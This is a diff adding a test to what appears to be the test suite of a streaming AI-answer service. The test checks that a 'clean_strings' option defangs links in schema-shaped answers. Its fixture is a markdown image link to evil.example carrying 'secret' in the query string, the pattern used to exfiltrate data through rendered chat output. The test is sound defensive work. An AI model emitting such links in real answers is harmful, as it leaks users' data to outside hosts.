@@ -77,6 +77,27 @@ async def test_what_is_told_of_an_answer_leads_nowhere_either(reached: Author, s
     assert shown == "So it is, you see: ![a b] (https[:]//evil.example/?q=secret) and https[:]//evil.example/secret"
 
 
+@pytest.mark.parametrize("clean_strings", [True, False])
+async def test_the_strings_of_an_answer_by_a_schema_are_told_as_they_end_up(
+    reached: Author, scripted: ScriptedModel, *, clean_strings: bool
+) -> None:
+    written = '{"a": "it is, you see: ![a b](https://evil.example/?q=secret)", "b": [1, "and https://evil.example/"]}'
+    await scripted.says({"text": written})
+    body = {
+        "messages": [{"role": "user", "content": "?"}],
+        "model": scripted.name,
+        "response_schema": {"type": "object"},
+        "clean_strings": clean_strings,
+    }
+    async with streamed(reached, body) as answer:
+        told = [event async for event in events(answer)]
+    assert len([name for name, _ in told if name == "answer.delta"]) > 1
+    shown = "".join(data["text"] for name, data in told if name == "answer.delta")
+    assert shown == told[-1][1]["answer"]
+    clean = written.replace("](", "] (").replace("https:", "https[:]")
+    assert shown == (clean if clean_strings else written)
+
+
 async def test_a_run_that_fails_says_so_in_its_last_event(reached: Author, scripted: ScriptedModel) -> None:
     await scripted.says({"text": LONG, "cut": True})
     body = {"messages": [{"role": "user", "content": "?"}], "model": scripted.name}
